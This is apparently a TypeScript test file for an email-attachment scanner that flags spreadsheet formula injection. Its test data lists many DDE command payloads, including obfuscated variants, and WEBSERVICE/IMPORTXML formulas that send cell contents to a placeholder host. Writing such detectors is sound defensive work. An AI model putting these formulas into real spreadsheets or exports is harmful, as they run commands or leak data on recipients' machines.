import { assertEquals, assertGreater } from "@std/assert";
import { readTable } from "../../../shared/body/documents/table_text.ts";
import { examineAttachments } from "../../../shared/body/attachments.ts";
import { latin1, wide } from "../../support/bytes.ts";
import { assertLinear } from "../../support/assert_linear.ts";
import { part } from "../../support/mail_files.ts";

const read = (text: string) => {
  const { dde, calls, links } = readTable(text);
  return [dde && "dde", calls && "calls", links && "links"].filter(Boolean).join(" ");
};

Deno.test("readTable: formulas that start a program", () => {
  const cells = [
    "=cmd|'/c calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\"=cmd|' /C calc'!A0\"",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "= C m D | '/ c c al c'!A",
    "=\0c\0m\0d|'/c calc'!A",
    "\t=cmd|'/c calc'!A0",
    "=excel|sheet!R1C1",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    '=DDE("cmd";"/C calc";"x")',
    '=IF(1;"";1)+dde("cmd";"/C calc";"x")',
  ];
  for (const cell of cells) {
    for (const row of [cell, `Ann,3,${cell}`, `Ann;${cell};3`, `a\r\nb\t${cell}`]) {
      assertEquals(read(row), "dde", row);
    }
  }
});

Deno.test("readTable: formulas that fetch, call or link", () => {
  const cases: readonly [string, string, readonly string[]][] = [
    ['=WEBSERVICE("http://a.example/?x="&A1)', "calls", ["http://a.example/?x="]],
    ['=IMPORTXML(CONCAT("http://a.example/",A1),"//a")', "calls", ["http://a.example/"]],
    ['=IF(1,IMPORTDATA("http://a.example/x"))', "calls", ["http://a.example/x"]],
    ['=HYPERLINK("https://a.example/","Open")', "links", ["https://a.example/"]],
    ['"=HYPERLINK(""https://a.example/"",""Open"")"', "links", ["https://a.example/"]],
    ['@HYPERLINK("\\\\a.example\\x")', "links", ["\\\\a.example\\x"]],
    ['-HYPERLINK("https://a.example/")', "links", ["https://a.example/"]],
  ];
  for (const [cell, expected, addresses] of cases) {
    assertEquals([read(`1,${cell}`), readTable(cell).addresses], [expected, addresses], cell);
  }
});

Deno.test("readTable: numbers with signs, sums, notes and addresses are nothing odd", () => {
  const rows = [
    "-1,-2.5,+3,-4.000",
    "+33 1 62 00 00 01,-12 %,+1 (555) 010-0000",
    '="00123",=SUM(A1:A9),=A1*1.2,=IF(A1>0,"yes","no")',
    "- see note (page 3),-10|'ok'",
    "@ann,@bob (Sales)",
    "-5,Image(s) of cats,call(s),hyperlink(s)",
    "Ann,a|b!,\"it's|he said 'no'!\"",
    "https://a.example/?a=HYPERLINK(1)",
    "text=WEBSERVICE(1)",
    "'=cmd|'/c calc'!A0",
    "Price = HYPERLINK(1)",
    "",
  ];
  for (const row of rows) assertEquals(read(row), "", row);
});

Deno.test("attachments: which texts are read as tables", async () => {
  const cell = "=cmd|'/c calc'!A0\n";
  const cases: readonly [name: string, type: string, bytes: Uint8Array, boolean][] = [
    ["a.csv", "application/octet-stream", latin1(`x,${cell}`), true],
    ["a.TSV", "text/plain", latin1(`x\t${cell}`), true],
    ["a.xls", "application/vnd.ms-excel", latin1(cell), true],
    ["a", "text/csv", latin1(cell), true],
    ["a.csv", "text/csv", latin1(`\xff\xfe${wide(cell)}`), true],
    ["a.csv", "text/csv", latin1(`<html><body>x</body></html>\n${cell}`), true],
    ["a.txt", "text/plain", latin1(cell), false],
    ["a.csv", "text/csv", latin1("x,-1\n"), false],
  ];
  assertGreater(cases.length, 0);
  for (const [name, declaredType, bytes, odd] of cases) {
    const { attachments } = await examineAttachments([part(name, bytes, declaredType)]);
    assertEquals(attachments[0]?.findings.includes("attachment_dde"), odd, name);
  }
});

Deno.test("readTable: linear in what is repeated", () => {
  for (
    const unit of [
      "=",
      "=a|",
      "=a|'",
      "-1,",
      "=hyperlink(",
      "=a(|",
      "=a.|'b'!",
      "\n=a|b",
      "\0",
      '"',
    ]
  ) {
    assertLinear(readTable, {
      make: (size) => unit.repeat(Math.ceil(size / unit.length)),
      size: 32_000,
      most: 256_000,
      what: JSON.stringify(unit),
    });
  }
});
